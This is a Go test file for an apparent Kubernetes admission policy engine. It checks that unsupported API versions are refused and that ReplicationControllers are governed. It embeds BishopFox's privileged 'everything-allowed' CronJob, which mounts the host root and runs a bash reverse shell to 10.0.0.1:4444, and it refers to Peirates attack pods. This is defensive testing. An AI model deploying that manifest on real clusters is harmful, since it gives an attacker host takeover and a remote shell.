package policy

import (
	"context"
	"errors"
	"strings"
	"testing"

	autoscalingv1 "k8s.io/api/autoscaling/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/utils/ptr"

	"github.com/vnfguard/vnfguard/internal/vnf"
)

// badPodsCronJob is BishopFox's "everything-allowed" CronJob in the API version its repository ships it in.
const badPodsCronJob = `{"apiVersion":"batch/v1beta1","kind":"CronJob","metadata":{"name":"everything-allowed-exec-cronjob"},
"spec":{"schedule":"* * * * *","jobTemplate":{"spec":{"template":{"spec":{"hostNetwork":true,"hostPID":true,"hostIPC":true,
"containers":[{"name":"c","image":"ubuntu","securityContext":{"privileged":true},
"command":["/bin/sh","-c","bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],"volumeMounts":[{"mountPath":"/host","name":"noderoot"}]}],
"volumes":[{"name":"noderoot","hostPath":{"path":"/"}}],"restartPolicy":"Never"}}}}}}`

// A governed kind in an API version vnfguard does not decode is an error naming the version, never an object
// judged as empty (which every check allows).
func TestDecodeUnsupportedVersion(t *testing.T) {
	for _, tt := range []struct {
		gvk  schema.GroupVersionKind
		want string // "" when the version is decoded or the kind not governed
	}{
		{schema.GroupVersionKind{Group: "batch", Version: "v1beta1", Kind: "CronJob"}, "CronJob batch/v1beta1: API version not judged by vnfguard: vnfguard judges CronJob only as batch/v1 (Kubernetes stopped serving batch/v1beta1 in 1.25)"},
		{schema.GroupVersionKind{Group: "extensions", Version: "v1beta1", Kind: "Deployment"}, "Deployment extensions/v1beta1: API version not judged by vnfguard: vnfguard judges Deployment only as apps/v1 (Kubernetes stopped serving extensions/v1beta1 in 1.16)"},
		{schema.GroupVersionKind{Group: "extensions", Version: "v1beta1", Kind: "DaemonSet"}, "DaemonSet extensions/v1beta1"},
		{schema.GroupVersionKind{Group: "apps", Version: "v1beta1", Kind: "StatefulSet"}, "only as apps/v1"},
		{schema.GroupVersionKind{Group: "apps", Version: "v1beta2", Kind: "ReplicaSet"}, "apps/v1beta2 in 1.16"},
		{schema.GroupVersionKind{Group: "batch", Version: "v2", Kind: "Job"}, "Job batch/v2: API version not judged by vnfguard: vnfguard judges Job only as batch/v1; convert"},
		{schema.GroupVersionKind{Version: "v2", Kind: "Pod"}, "Pod v2:"},
		{schema.GroupVersionKind{Group: "batch", Version: "v1", Kind: "CronJob"}, ""},
		{schema.GroupVersionKind{Version: "v1", Kind: "ReplicationController"}, ""},
		{schema.GroupVersionKind{Group: "example.com", Version: "v1", Kind: "Deployment"}, ""}, // another group's kind of that name
		{schema.GroupVersionKind{Group: "snapshot.storage.k8s.io", Version: "v1", Kind: "VolumeSnapshot"}, ""},
	} {
		apiVersion, kind := tt.gvk.ToAPIVersionAndKind()
		_, err := DecodeObject(tt.gvk, []byte(`{"apiVersion":"`+apiVersion+`","kind":"`+kind+`","metadata":{"name":"x"}}`))
		switch {
		case tt.want == "" && err != nil:
			t.Errorf("%s: %v", tt.gvk, err)
		case tt.want != "" && (err == nil || !errors.Is(err, ErrUnsupportedVersion) || !strings.Contains(err.Error(), tt.want)):
			t.Errorf("%s: error %v, want one wrapping ErrUnsupportedVersion with %q", tt.gvk, err, tt.want)
		}
	}

	// The BishopFox CronJob itself, as a review would carry it: an error, not an object.
	if _, err := DecodeObject(schema.GroupVersionKind{Group: "batch", Version: "v1beta1", Kind: "CronJob"}, []byte(badPodsCronJob)); !errors.Is(err, ErrUnsupportedVersion) ||
		!strings.Contains(err.Error(), "CronJob batch/v1beta1") {
		t.Errorf("BishopFox CronJob: %v", err)
	}
}

// ReplicationControllers are governed like ReplicaSets: their pod template is judged, creating one in a
// protected namespace needs an instance, and scaling one of a stopped instance up is refused.
func TestReplicationControllerGoverned(t *testing.T) {
	env := newTestEnv(t, "")
	env.objs.add("ReplicationController", &corev1.ReplicationController{ObjectMeta: meta("smf-rc", map[string]string{vnf.DefaultInstanceLabel: "smf-1"})})
	ev := env.evaluator(t)
	rcGVK := schema.GroupVersionKind{Version: "v1", Kind: "ReplicationController"}
	rcGVR := schema.GroupVersionResource{Version: "v1", Resource: "replicationcontrollers"}
	rc := func(ns string, spec corev1.PodSpec) *corev1.ReplicationController {
		return &corev1.ReplicationController{ObjectMeta: metav1.ObjectMeta{Name: "rc", Namespace: ns},
			Spec: corev1.ReplicationControllerSpec{Replicas: ptr.To[int32](1), Template: &corev1.PodTemplateSpec{Spec: spec}}}
	}
	denied := func(d *Decision) []string {
		var out []string
		for _, v := range d.Denials {
			out = append(out, v.Check)
		}
		return out
	}

	peirates := ev.Evaluate(context.Background(), &Request{UID: "u", Operation: Create, Kind: rcGVK, Resource: rcGVR, Namespace: "default",
		Name: "rc", User: attacker, Object: rc("default", peiratesPod().Spec)})
	if peirates.Allowed || !containsAll(denied(peirates), []string{"host-takeover", "reverse-shell"}) {
		t.Errorf("Peirates ReplicationController: allowed %v, denials %v", peirates.Allowed, denied(peirates))
	}
	if !strings.Contains(peirates.Message(), "spec.template.spec.volumes[0].hostPath.path") {
		t.Errorf("message %q does not name the template's field", peirates.Message())
	}

	rogue := ev.Evaluate(context.Background(), &Request{UID: "u", Operation: Create, Kind: rcGVK, Resource: rcGVR, Namespace: protectedNS,
		Name: "rc", User: attacker, Object: rc(protectedNS, cnfPodSpec())})
	if rogue.Allowed || !containsAll(denied(rogue), []string{"vnf-instantiation"}) {
		t.Errorf("rogue ReplicationController in %s: allowed %v, denials %v", protectedNS, rogue.Allowed, denied(rogue))
	}

	noTemplate := ev.Evaluate(context.Background(), &Request{UID: "u", Operation: Create, Kind: rcGVK, Resource: rcGVR, Namespace: protectedNS,
		Name: "rc", User: attacker, Object: &corev1.ReplicationController{ObjectMeta: metav1.ObjectMeta{Name: "rc", Namespace: protectedNS}}})
	if noTemplate.Allowed {
		t.Errorf("ReplicationController without a template in %s allowed", protectedNS)
	}

	scale := func(n int32) *autoscalingv1.Scale {
		return &autoscalingv1.Scale{ObjectMeta: metav1.ObjectMeta{Name: "smf-rc", Namespace: protectedNS}, Spec: autoscalingv1.ScaleSpec{Replicas: n}}
	}
	revive := ev.Evaluate(context.Background(), &Request{UID: "u", Operation: Update, Kind: schema.GroupVersionKind{Group: "autoscaling", Version: "v1", Kind: "Scale"},
		Resource: rcGVR, SubResource: "scale", Namespace: protectedNS, Name: "smf-rc", User: opsAdmin, Object: scale(3), OldObject: scale(0)})
	if revive.Allowed || !containsAll(denied(revive), []string{"lifecycle-scale"}) || !strings.Contains(revive.Message(), "smf-1") {
		t.Errorf("scaling up the ReplicationController of stopped smf-1: allowed %v, %s", revive.Allowed, revive.Message())
	}
	if !IsWorkloadKind("ReplicationController") {
		t.Error("IsWorkloadKind(ReplicationController) = false")
	}
}
